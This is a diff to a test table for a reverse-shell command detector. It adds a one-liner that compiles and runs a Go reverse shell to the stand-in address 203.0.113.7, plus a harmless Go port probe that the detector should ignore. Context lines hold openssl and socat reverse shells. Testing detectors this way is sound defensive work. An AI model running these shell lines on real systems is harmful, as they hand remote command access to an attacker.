@@ -32,6 +32,9 @@ indicatorTable(commandReverseShell, {
       'mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s',
     ),
     'socat in capitals': runs('socat', 'TCP:203.0.113.7:8443', 'EXEC:/bin/bash,pty,stderr'),
+    'a program of Go that it wrote': script(
+      `printf 'package main\nimport ("net";"os/exec")\nfunc main(){c,_:=net.Dial("tcp","203.0.113.7:443");s:=exec.Command("/bin/sh");s.Stdin=c;s.Stdout=c;s.Run()}' > /tmp/m.go; go run /tmp/m.go`,
+    ),
     'python with a socket and dup2': runs(
       'python3',
       '-c',
@@ -73,6 +76,9 @@ indicatorTable(commandReverseShell, {
     }),
   },
   staysSilent: {
+    'a program of Go that asks whether somebody listens': script(
+      `printf 'package main\nimport "net"\nfunc main(){_,e:=net.Dial("tcp","db:5432");if e!=nil{panic(e)}}' > /tmp/m.go; go run /tmp/m.go`,
+    ),
     'a port test with the network device': script("timeout 1 bash -c '</dev/tcp/db.example.com/5432' && echo up"),
     'a port test that writes': script('(echo > /dev/tcp/db/5432) >/dev/null 2>&1'),
     'an HTTP request without curl': script('exec 3<>/dev/tcp/web/80; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3'),
